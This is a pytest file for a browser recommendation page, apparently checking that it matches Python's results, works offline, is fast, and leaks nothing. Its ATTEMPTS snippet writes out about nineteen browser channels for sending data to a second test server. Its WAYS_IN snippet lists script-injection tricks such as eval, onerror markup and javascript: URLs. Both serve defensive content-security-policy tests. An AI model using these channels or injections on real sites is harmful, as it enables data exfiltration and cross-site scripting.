"""The recommendation page in chromium: its lists equal Python's, and it sends nothing, with and without a network."""

from __future__ import annotations

import json
import random
from dataclasses import replace
from importlib import import_module
from statistics import median
from urllib.parse import urlsplit

import numpy as np
import pytest

from fedtaste.serving.export import bundle_files
from fedtaste.serving.recommender import Recommender
from support import browser
from support.bundles import bundle_of, learnt_of
from support.pages import (
    Counted,
    context,
    copied,
    csv,
    files_in,
    ledger,
    offer,
    opened,
    pick,
    reloaded,
    shown,
    until,
    update,
)

MAKERS = (".googleapis.com", ".google.com")  # chromium's own requests to its maker, whatever page is open
CLOCK = """() => {
  window.took = [];
  let begun;
  addEventListener("keydown", ({ key }) => { if (key === "Enter") begun = performance.now(); }, true);
  new MutationObserver(() => {
    if (begun !== undefined) window.took.push([performance.now() - begun, Number(document.documentElement.dataset.ms)]);
    begun = undefined;
  }).observe(document.documentElement, { attributeFilter: ["data-generation"] });
}"""


@pytest.fixture
def server(files):
    with Counted(files) as server:
        yield server


@pytest.fixture
def profile(chromium):
    with context(chromium) as profile:
        yield profile


def requested(log: bytes) -> list[str]:
    """The addresses in chromium's network log, of all of its processes, in order."""
    events = [e for e in json.loads(log)["traceEvents"] if (e["name"], e["ph"]) == ("REQUEST_ALIVE", "b")]
    urls = [urlsplit(e["args"]["params"]["url"]) for e in sorted(events, key=lambda event: event["ts"])]
    return [url.geturl() for url in urls if not url.scheme.startswith("chrome") and not url.netloc.endswith(MAKERS)]


def test_fifty_picks_change_the_list_and_send_no_request(chromium, profile, server, titles):
    seen: list[str] = []
    page = copied(opened(profile, server.url))
    before, asked = shown(page), len(server.requests)
    page.evaluate(CLOCK)
    profile.on("request", lambda request: seen.append(request.url))
    chromium.start_tracing(categories=["netlog"])
    for at, title in enumerate(random.Random(0).sample(titles, 50), 1):
        pick(page, title)
        after = shown(page)
        assert after != before and len(after) == 20
        assert page.locator("html").get_attribute("data-generation") == str(at + 1)
        before = after
    assert page.locator("#mine > li").count() == 50
    assert (seen, server.requests[asked:]) == ([], [])
    assert {name: ledger(page)[name] for name in ("sent", "requests", "refused")} == dict.fromkeys(
        ("sent", "requests", "refused"), 0
    )
    assert page.locator("#sent").inner_text().startswith("Left this device: 0 bytes")
    control = f"{server.url}LICENCES.md"  # a request that all three counts must see
    profile.new_page().goto(control)
    assert requested(chromium.stop_tracing())[0] == seen[0] == control
    assert server.requests[asked] == "GET /LICENCES.md"
    wall, worker = zip(*page.evaluate("window.took"))
    print(f"50 picks: median {median(wall):.1f} ms to the new list, {median(worker):.1f} in the worker")
    assert len(wall) == 50 and median(worker) < 50


def test_page_works_and_reopens_without_a_network(chromium, profile, server, titles):
    page = copied(opened(profile, server.url))
    start = shown(page)
    profile.set_offline(True)
    server.cut()
    with context(chromium) as stranger, pytest.raises(Exception, match="ERR_CONNECTION_REFUSED"):
        stranger.new_page().goto(server.url)
    for title in titles[:3]:
        before = shown(page)
        pick(page, title)
        assert shown(page) != before
    reloaded(page)
    assert shown(page) == start and page.locator("#mine > li").count() == 0
    second = opened(profile, f"{server.url}index.html")
    assert shown(second) == start
    for tab in (page, second):
        pick(tab, titles[5])
        assert page.locator("#mine > li").count() == 1 and shown(tab) != start
    assert ledger(second)["requests"] == 0


# What the browser enforces: attempts to send data, each to its own address

ATTEMPTS = """async (base) => {
  const blocked = new Set(), tried = [], url = (kind) => `${base}leak-${kind}`;
  addEventListener("securitypolicyviolation", (event) => blocked.add(event.blockedURI));
  const attempt = (kind, act) => {
    const { href, origin } = new URL(url(kind));
    const told = { socket: href.replace("http", "ws"), frame: origin === location.origin ? href : origin };
    tried.push(told[kind] ?? href);
    try { act(url(kind))?.catch?.(() => 0); } catch { blocked.add(tried.at(-1)); }
  };
  const node = (tag, props, parent = document.body) => {
    const made = Object.assign(document.createElement(tag), props);
    parent.append(made);
    return made;
  };
  const asked = (to) => { const made = new XMLHttpRequest(); made.open("POST", to); made.send("taste"); };
  attempt("fetch", (to) => fetch(to, { mode: "no-cors" }));
  attempt("post", (to) => fetch(to, { mode: "no-cors", method: "POST", body: "taste", keepalive: true }));
  attempt("xhr", asked);
  attempt("socket", (to) => { new WebSocket(to.replace("http", "ws")); });
  attempt("events", (to) => { new EventSource(to); });
  attempt("module", (to) => import(to));
  if (globalThis.document) {
    attempt("image", (to) => { new Image().src = to; });
    attempt("beacon", (to) => { navigator.sendBeacon(to, "taste"); });
    attempt("script", (to) => node("script", { src: to }));
    attempt("style", (to) => node("link", { rel: "stylesheet", href: to }));
    attempt("prefetch", (to) => node("link", { rel: "prefetch", href: to }));
    attempt("frame", (to) => node("iframe", { src: to }));
    attempt("object", (to) => node("object", { data: to }));
    attempt("media", (to) => node("video", { src: to }));
    attempt("font", (to) => { new FontFace("leak", `url(${to})`).load().catch(() => 0); });
    attempt("css", (to) => { document.body.style.backgroundImage = `url(${to})`; });
    attempt("ping", (to) => node("a", { href: "#ping", ping: to }).click());
    attempt("form", (to) => node("form", { action: to, method: "POST" }).submit());
  } else attempt("import", (to) => importScripts(to));
  globalThis.open_ = () => tried.filter((one) => !blocked.has(one));
  return tried.length;
}"""


PLAIN = {
    "": b"<!doctype html><body><script src=make.js></script>",
    "make.js": b'new Worker(URL.createObjectURL(new Blob(["0"], { type: "text/javascript" })))',
}
KINDS = {
    "page": "fetch post xhr socket events module image beacon script style prefetch frame object media font css ping "
    "form",
    "worker": "fetch post xhr socket events module import",
}


@pytest.mark.parametrize("where", KINDS)
def test_exfiltration_attempts_succeed_without_the_security_policy(chromium, files, where):
    with Counted(files) as other, browser.Site(PLAIN) as site, context(chromium) as profile:
        page = profile.new_page()
        with page.expect_worker() as made:
            page.goto(site.url)
        (page if where == "page" else made.value).evaluate(ATTEMPTS, other.url)
        wanted = {f"/leak-{kind}" for kind in KINDS[where].split()}
        until(page, lambda: wanted <= {line.split()[1] for line in other.requests})


@pytest.mark.parametrize("host", ["fedtaste serve", "any host, from the copy"])
def test_security_policy_blocks_every_exfiltration_attempt(chromium, profile, files, host):
    made = Counted(files) if host == "fedtaste serve" else browser.Site(files | {"": files["index.html"]})
    with Counted(files) as other, made as own:
        page = copied(opened(profile, own.url))
        if host != "fedtaste serve":
            reloaded(page)
            assert page.evaluate("navigator.serviceWorker.controller !== null")
        heard = own.requests
        asked, refused = len(heard), 0
        [worker] = page.workers
        for where, base in [(place, base) for place in (worker, page) for base in (own.url, other.url)]:
            tried = where.evaluate(ATTEMPTS, base)
            until(page, lambda: not where.evaluate("open_()"))  # noqa: B023
            refused += tried if where is page else 0
        looked = (
            {"sw.js"} if host != "fedtaste serve" else set()
        )  # chromium's own look for a new version, after a reload
        assert ({*heard[asked:]} - looked, other.requests) == (set(), [])
        assert page.url.partition("#")[0] == own.url
        found = ledger(page)
        assert (found["sent"], found["requests"]) == (0, 0)
        assert found["refused"] >= refused > 30
        assert f"({found['refused']} refused)" in page.locator("#sent").inner_text()


def test_blocked_frame_is_not_counted_as_a_request(profile, server, files):
    """Of a frame from elsewhere chromium tells only the origin, and now and then counts it among what was loaded."""
    with Counted(files) as other:
        page = opened(profile, server.url)
        for at in range(8):
            page.evaluate(
                "(src) => document.body.append(Object.assign(document.createElement('iframe'), { src }))",
                f"{other.url}leak-{at}",
            )
            until(page, lambda: ledger(page)["refused"] > at)  # noqa: B023
        page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
        assert (ledger(page)["requests"], other.requests) == (0, [])


WAYS_IN = """() => new Promise((done) => setTimeout(() => {
  window.ran = [];
  const node = (tag, make) => {
    const made = document.createElement(tag);
    make(made);
    document.body.append(made);
    made.click();
  };
  const ways = {
    eval: () => eval("ran.push('eval')"),
    function: () => new Function("ran.push('function')")(),
    timer: () => setTimeout("ran.push('timer')"),
    inline: () => node("script", (made) => { made.text = "ran.push('inline')"; }),
    handler: () => node("b", (made) => made.setAttribute("onclick", "ran.push('handler')")),
    markup: () => node("b", (made) => { made.innerHTML = "<img src=data: onerror=ran.push('markup')>"; }),
    address: () => node("a", (made) => { made.href = "javascript:void ran.push('address')"; }),
    blob: () => node("script", (made) => { made.src = URL.createObjectURL(new Blob(["ran.push('blob')"])); }),
  };
  for (const way of Object.values(ways)) try { way(); } catch { }
  done(Object.keys(ways));
}))"""


def test_only_published_scripts_can_run(chromium, profile, server, files):
    page = opened(profile, server.url)
    ways = page.evaluate(WAYS_IN)
    with browser.Site(PLAIN) as site, context(chromium) as free:
        plain = free.new_page()
        plain.goto(site.url)
        plain.evaluate(WAYS_IN)
        until(plain, lambda: plain.evaluate("ran.toSorted()") == sorted(ways))
    pick(page, "The Last Festival")
    assert page.evaluate("ran") == []
    assert ledger(page)["refused"] >= len(ways) - 1


@pytest.mark.parametrize("name", ["fedals", "fedals-ratings"])
def test_thirty_imported_lists_get_the_recommendations_of_python(profile, name):
    folder = bundle_of(name, float32=True)
    python, rng, distinct = Recommender.load(folder), random.Random(3), set()
    titles, ratings = python.bundle.titles, name == "fedals-ratings"
    with Counted(files_in(folder)) as server:
        page = opened(profile, server.url)
        for turn in range(30):
            chosen = rng.sample(titles, rng.choice([1, 2, 5, 20, 60]))
            values = [rng.choice([1, 2, 3, 4, 5] if ratings else ["yes", "yes", "yes", "no"]) for _ in chosen]
            values[0] = 4 if ratings else "yes"
            timed, lean = turn % 3 == 0, rng.choice([0, 0, 0.3, -0.7])
            rows = [[title, value, 1e9 + 1e5 * at] for at, (title, value) in enumerate(zip(chosen, values))]
            rng.shuffle(rows) if timed else None
            with update(page):
                offer(page, csv(f"title,{'rating' if ratings else 'liked'},{'date' if timed else 'x'}", rows))
            if lean:
                with update(page):
                    page.locator("#adventurous").fill(str(lean))
            own = dict(zip(chosen, values))
            given = {"ratings": own} if ratings else {
                "likes": [title for title in chosen if own[title] == "yes"],
                "dislikes": [title for title in chosen if own[title] == "no"],
            }  # fmt: skip
            known = python.recommend(**given, n=20, adventurous=lean, timed=timed)
            assert page.locator("#recommendations .name").all_inner_texts() == [one.title for one in known.items]
            distinct.add(tuple(shown(page)))
            with update(page):
                page.locator("#clear").dispatch_event("click")
    assert len(distinct) == 30


def large() -> dict[str, bytes]:
    """A bundle of 10,000 titles and 64 numbers for each, as random as can be."""
    m, k, rng = 10_000, 64, np.random.default_rng(0)
    words = [title.removeprefix("The ") for title in learnt_of("fedals").items["titles"]]
    items = {
        "names": [str(at) for at in range(m)],
        "titles": [
            f"{words[at % 200]} and the {words[at * 7 % 199]} {at // 200} ({1930 + at % 90})" for at in range(m)
        ],
        "genres": [("Comedy, Drama", "War", "Music, Romance, Art")[at % 3] for at in rng.permutation(m)],
        "counts": rng.zipf(1.5, m).clip(max=50_000).tolist(),
    }
    item = rng.normal(0, 0.3, (m, k)).astype(np.float32)
    with pytest.MonkeyPatch.context() as patch:  # a map of so many takes a while, and any will do
        patch.setattr(import_module("fedtaste.serving.export"), "place", lambda *_: rng.integers(-32767, 32768, (m, 2)))
        return bundle_files(replace(learnt_of("fedals"), items=items, item=item), "int8")


TYPING = """() => {
  window.typed = [];
  let begun;
  addEventListener("input", () => { begun = performance.now(); }, true);
  addEventListener("input", () => { document.body.offsetHeight; window.typed.push(performance.now() - begun); });
}"""


def test_ten_thousand_titles_load_within_two_megabytes_and_answer_fast(profile):
    files = large()
    titles = json.loads(files["items.json"])["titles"]
    with Counted(files) as server:
        page = copied(opened(profile, server.url))
        sent, received = sum(server.sizes), ledger(page)["received"]
        page.evaluate(CLOCK)
        for title in random.Random(1).sample(titles, 20):
            pick(page, title)
        page.evaluate(TYPING)
        for text in ("the velvet railway and the", "lost", "zzzz", "paintr"):
            page.locator("#search").press_sequentially(text)
            page.locator("#search").fill("")
        typed = page.evaluate("typed")
        wall, worker = map(median, zip(*page.evaluate("took")))
    print(
        f"10,000 x 64: {sent / 1e6:.2f} MB sent, {received / 1e6:.2f} MB received; update {wall:.1f} ms, "
        f"{worker:.1f} in the worker; a key in the search {median(typed):.1f} ms, at most {max(typed):.1f} (medians)"
    )
    assert sent < 2e6 and 0.5e6 < received <= sent
    assert worker < 50 and wall < 150
    assert median(typed) < 50
